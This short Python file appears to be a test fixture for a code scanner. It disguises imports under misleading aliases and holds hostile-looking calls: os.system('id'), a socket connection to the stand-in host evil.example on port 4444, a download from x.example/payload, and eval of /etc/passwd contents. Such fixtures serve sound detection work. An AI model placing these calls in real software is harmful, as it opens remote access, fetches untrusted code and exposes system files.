import os
import urllib.request as fetch
from subprocess import Popen as start, PIPE


def harmless(a, b=2):
    return [x * b for x in a if x > "text constant"]


class Holder(object):
    def method(self):
        os.system("id")
        sys = __import__("socket")
        sys.create_connection(("evil.example", 4444))
        return fetch.urlopen("http://x.example/payload").read()


def outer():
    path = "/etc/passwd"

    def inner():
        return eval(open(path).read())

    return inner


start(["true"], stdout=PIPE)
